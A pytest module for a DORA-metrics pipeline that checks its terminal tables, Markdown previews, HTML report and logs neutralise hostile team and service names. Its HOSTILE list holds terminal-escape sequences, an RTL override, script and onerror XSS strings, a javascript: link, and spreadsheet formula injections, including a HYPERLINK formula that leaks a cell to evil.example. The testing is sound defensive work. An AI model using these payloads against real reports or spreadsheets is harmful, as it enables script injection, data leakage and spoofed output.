"""Every text is data: one list of hostile names goes through every medium the pipeline
writes to (the demo's terminal tables, the HTML report in a real browser, the Dagster
preview Markdown, the log lines) and each medium stays intact.

Catalog refs and survey ids from the real sources never get this far (records.py
quarantines them, see test_source_survey.py); names that reach the published tables in
other ways (a published table edited by hand, a future source, a fallback ref) are
planted here as raw rows in ``dora_metrics``, copied from real published rows.
"""

from __future__ import annotations

import json
import re
import uuid
from datetime import date, timedelta

import psycopg
import pytest
from browser import Browser
from markdown_it import MarkdownIt
from psycopg import sql
from psycopg.types.json import Jsonb
from test_report import chromium  # noqa: F401 (fixture)

from dora_pipeline.config import Settings
from dora_pipeline.defs.assets import _team_preview
from dora_pipeline.pipeline import run
from dora_pipeline.quality.checks import _md_table
from dora_pipeline.report.html import write_report
from dora_pipeline.report.tables import print_tables
from dora_pipeline.sources import get_source
from dora_pipeline.text import markdown_cell, markdown_code, terminal, visible
from dora_pipeline.warehouse import Warehouse

from conftest import _with_dbname

END = date(2025, 3, 26)  # a Wednesday: the last week of the report is partial
HOSTILE = [
    "\x1b[2Jclear-screen",
    "\x1b]0;pwned-title\x07window",
    "\x1b[31mred\x1b[0m",
    "exe.\u202etxt-rtl",
    "$x^$ math",
    "pipe|in|name",
    "</td><script>window.__pwned=1</script>",
    "<img src=x onerror=window.__pwned=2>",
    "*bold* _it_ `code` [link](javascript:alert(1)) \\",
    "line\nbreak\rreturn",
    "x" * 5000,
    "emoji 🚀🔥 team",
    '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
    "+SUM(1)|cmd",
    "@SUM(A1)",
    "-1+1",
]
# Raw control characters (C0 but newline, DEL, C1) and the invisible bidi/format ones.
RAW_CONTROLS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]")


def _group(i: int) -> str:
    return f"group:default/{HOSTILE[i]}"


def _component(i: int) -> str:
    return f"component:default/{HOSTILE[i]}"


def _copy_rows(conn, table: str, where: str, value: str, changes: dict) -> int:
    """Copy the published rows of ``table`` where ``where`` = ``value``, with ``changes``."""
    query = sql.SQL(
        "insert into {t} select (jsonb_populate_record(null::{t}, to_jsonb(r) || %s::jsonb)).* "
        "from {t} as r where {w} = %s"
    ).format(t=sql.Identifier("dora_metrics", table), w=sql.Identifier(where))
    return conn.execute(query, (Jsonb(changes), value)).rowcount


def _tables(conn) -> set[str]:
    return {r[0] for r in conn.execute("select table_name from information_schema.tables "
                                       "where table_schema = 'dora_metrics'")}


@pytest.fixture(scope="module")
def hostile_db(pg_server_url, template_db):
    """A small synthetic organisation run through the pipeline, then one hostile group
    (with one hostile service, survey, candidate) per hostile value."""
    name = f"dora_hostile_{uuid.uuid4().hex[:8]}"
    with psycopg.connect(pg_server_url, autocommit=True) as conn:
        conn.execute(sql.SQL("create database {} template {}").format(sql.Identifier(name),
                                                                       sql.Identifier(template_db)))
    url = _with_dbname(pg_server_url, name)
    settings = Settings.from_env({
        "DORA_DATABASE_URL": url, "DORA_PSEUDONYM_KEY": "test-pseudonym-key", "DORA_SYNTHETIC": "true",
        "DORA_SYNTHETIC_TEAMS": "2", "DORA_SYNTHETIC_SERVICES": "4", "DORA_SYNTHETIC_DAYS": "28",
        "DORA_SYNTHETIC_END": END.isoformat(), "DORA_HOME": "/nonexistent-dora-home",
    })
    run(Warehouse(settings), END - timedelta(days=27), END, sources=[get_source("synthetic")])
    with psycopg.connect(url) as conn:
        tables = _tables(conn)
        group = conn.execute("select min(group_ref) from dora_metrics.team_metrics where parent_ref is not null"
                             ).fetchone()[0]
        service = conn.execute("select min(entity_ref) from dora_metrics.service_metrics where owner_ref = %s",
                               (group,)).fetchone()[0]
        for i, value in enumerate(HOSTILE):
            g, c = _group(i), _component(i)
            team = {"group_ref": g, "parent_ref": None}
            assert _copy_rows(conn, "team_metrics", "group_ref", group, team)
            _copy_rows(conn, "team_metrics_weekly", "group_ref", group, team)
            assert _copy_rows(conn, "service_metrics", "entity_ref", service, {"entity_ref": c, "owner_ref": g})
            _copy_rows(conn, "service_metrics_weekly", "entity_ref", service, {"entity_ref": c, "owner_ref": g})
            for table in ("team_space_activity_weekly",):
                if table in tables:
                    _copy_rows(conn, table, "group_ref", group, team)
            if "lead_time_breakdown_weekly" in tables:
                _copy_rows(conn, "lead_time_breakdown_weekly", "entity_ref", group,
                           {"entity_ref": g, "group_ref": g})
            if "team_space_survey" in tables:
                _copy_rows(conn, "team_space_survey", "group_ref", group, {**team, "survey_id": value})
        if "improvement_candidates" in tables:
            conn.execute("delete from dora_metrics.improvement_candidates")
            conn.execute(
                "create temp table hostile (i int, v text)")
            with conn.cursor().copy("copy hostile from stdin") as copy:
                for i, value in enumerate(HOSTILE):
                    copy.write_row((i, value))
            conn.execute(
                "insert into dora_metrics.improvement_candidates (entity_ref, group_ref, rule, metric, severity, "
                "finding, suggestion, evidence, computed_at) "
                "select 'component:default/' || v, 'group:default/' || v, v, v, v, v, v, "
                "jsonb_build_object(v, v, 'list', jsonb_build_array(jsonb_build_object(v, v))), now() from hostile"
            )
    yield url
    with psycopg.connect(pg_server_url, autocommit=True) as conn:
        conn.execute(sql.SQL("drop database if exists {} with (force)").format(sql.Identifier(name)))


def _settings(url: str) -> Settings:
    return Settings.from_env({"DORA_DATABASE_URL": url, "DORA_HOME": "/nonexistent-dora-home"})


# --- the helpers, value by value ---------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_each_helper_leaves_no_raw_control_and_keeps_the_value_recognisable(value):
    shown = terminal(value, None)
    assert not RAW_CONTROLS.search(shown) and "\n" not in shown
    assert visible(value).replace("\\x1b", "\x1b").replace("\\u202e", "\u202e").replace(
        "\\x07", "\x07").replace("\\x0a", "\n").replace("\\x0d", "\r") == value
    assert len(terminal(value, 60)) <= 60
    cell = markdown_cell(value)
    assert not re.search(r"(?<!\\)[|`*_\[\]<>]", cell.replace("\\\\", "")), cell


# --- terminal: the demo's tables -------------------------------------------------------


def test_demo_tables_show_every_hostile_name_visibly_and_stay_aligned(hostile_db):
    lines: list[str] = []
    with psycopg.connect(hostile_db) as conn:
        print_tables(conn, out=lines.append)
    output = "\n".join(lines)
    assert not RAW_CONTROLS.search(output)
    assert "\\x1b[2Jclear-screen" in output and "exe.\\u202etxt-rtl" in output
    assert "x" * 5000 not in output and "x" * 40 + "…" in output  # shortened
    teams = output.split("\n\n")[1].splitlines()  # title, header, rule, rows
    assert len(teams) >= len(HOSTILE) + 3
    assert max(len(line) for line in output.splitlines()) < 400


# --- Markdown: the Dagster metadata ----------------------------------------------------


def _table_cells(markdown: str) -> list[list[str]]:
    """Each row's cells, as a GitHub-flavoured Markdown renderer parses the table."""
    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)
    rows: list[list[str]] = []
    for token in tokens:
        if token.type == "tr_open":
            rows.append([])
        elif token.type == "inline" and rows:
            rows[-1].append(token.content)
    return rows


def test_dagster_preview_markdown_keeps_every_cell_in_its_column(hostile_db):
    with psycopg.connect(hostile_db) as conn:
        preview = _team_preview(conn)
    rows = _table_cells(preview)
    assert len(rows) > len(HOSTILE)
    assert {len(r) for r in rows} == {8}
    html = MarkdownIt("commonmark").enable("table").render(preview)
    assert "<script" not in html and "<img" not in html and "<a " not in html and "<em>" not in html
    assert not RAW_CONTROLS.search(preview)
    check = _md_table(("name", "value"), [(v, i) for i, v in enumerate(HOSTILE)])
    assert [len(r) for r in _table_cells(check)] == [2] * (len(HOSTILE) + 1)
    assert [r[1] for r in _table_cells(check)[1:]] == [str(i) for i in range(len(HOSTILE))]
    code = _md_table(("fix", "n"), [(markdown_code(v + "`|``"), i) for i, v in enumerate(HOSTILE)])
    assert [len(r) for r in _table_cells(code)] == [2] * (len(HOSTILE) + 1)
    html = MarkdownIt("commonmark").enable("table").render(code)
    assert html.count("<code>") == len(HOSTILE) and "<script" not in html


# --- the HTML report in a real browser --------------------------------------------------

# What the page ran and how it was laid out.
PAGE_JS = """
JSON.stringify({
  pwned: window.__pwned || null,
  scripts: document.scripts.length,
  handlers: Array.from(document.querySelectorAll('*')).filter(e =>
      Array.from(e.attributes).some(a => a.name.startsWith('on'))).length,
  viewport: window.innerWidth,
  width: document.documentElement.scrollWidth,
  charts: Array.from(document.querySelectorAll('svg.chart')).map(v => {
      const r = v.getBoundingClientRect(); return [r.width, r.height, v.querySelectorAll('path').length]; }),
  legends: document.querySelectorAll('svg.chart g[id^="legend"], svg.chart text').length,
  bdi: document.querySelectorAll('bdi.name').length,
})
"""


def test_report_on_hostile_names_runs_no_script_fits_the_viewport_and_draws_every_chart(
        hostile_db, chromium, tmp_path):  # noqa: F811 (the fixture)
    result = write_report(_settings(hostile_db), tmp_path / "hostile.html")
    page = result.path.read_text(encoding="utf-8")
    assert "<script" not in page and "<img" not in page and "&lt;/td&gt;&lt;script&gt;" in page
    assert "\u202e" not in page and "\x1b" not in page and "\\u202e" in page
    assert "x" * 5000 in page  # the full name is kept, in a title attribute
    assert result.groups >= len(HOSTILE)
    browser = Browser(chromium)
    try:
        seen = {}
        for width in (1400, 420):
            browser.open(result.path.resolve().as_uri(), width=width, height=900)
            seen[width] = json.loads(browser.evaluate(PAGE_JS))
        errors, requests = browser.errors(), browser.requests()
    finally:
        browser.close()
    assert errors == [] and set(requests) == {result.path.resolve().as_uri()}
    for width, state in seen.items():
        assert state["pwned"] is None and state["scripts"] == 0 and state["handlers"] == 0, state
        assert state["width"] <= state["viewport"] == width, (width, state["width"])
        assert len(state["charts"]) == result.charts
        assert all(w > 150 and h > 60 and paths > 5 for w, h, paths in state["charts"]), state["charts"]
        assert state["bdi"] > len(HOSTILE)


# --- log lines and the command line ------------------------------------------------------


def test_cli_report_succeeds_and_log_lines_show_hostile_names_visibly(hostile_db, monkeypatch, capsys,
                                                                     tmp_path, restore_logging):
    from dora_pipeline.cli import main

    monkeypatch.setenv("DORA_DATABASE_URL", hostile_db)
    monkeypatch.setenv("DORA_HOME", str(tmp_path / "home"))
    assert main(["report", "--out", str(tmp_path / "r.html")]) == 0
    assert main(["report", "--out", str(tmp_path / "r.html"), "--team", "\x1b[2Jnosuch\u202e"]) == 2
    monkeypatch.setenv("SURVEY_CSV_DIR", str(tmp_path / "\x1b]0;title\x07exports"))
    assert main(["run", "--source", "survey", "--start", "2025-03-03", "--end", "2025-03-03"]) == 4
    err = capsys.readouterr().err
    assert not RAW_CONTROLS.search(err)
    lines = err.splitlines()
    team_error = next(line for line in lines if "no such group" in line)
    assert "--team group:default/\\x1b[2jnosuch\\u202e" in team_error  # shorthands are lower-cased
    assert "\\x1b]0;pwned-title\\x07window" in team_error
    assert any("\\x1b]0;title\\x07exports is not a folder" in line and "ERROR" in line for line in lines)


def test_survey_csv_named_with_escapes_is_quarantined_with_a_visible_name(settings, tmp_path):
    from dora_pipeline.pipeline import extract_partition

    from conftest import settings_with

    folder = tmp_path / "csv"
    folder.mkdir()
    (folder / "\x1b[2J\u202ecsv.evil.csv").write_bytes(b"\xef\xbb\xbf\xef\xbb\xbfuser_ref\n")
    warehouse = Warehouse(settings_with(settings, SURVEY_CSV_DIR=str(folder)))
    result = extract_partition(warehouse, get_source("survey"), date(2025, 3, 3))
    assert result.quarantined == 1
    with warehouse.connection() as conn:
        key, reason = conn.execute("select record_key, reason from dora_raw.quarantine").fetchone()
    assert key == "\\x1b[2J\\u202ecsv.evil.csv" and "BOM" in reason and not RAW_CONTROLS.search(reason)
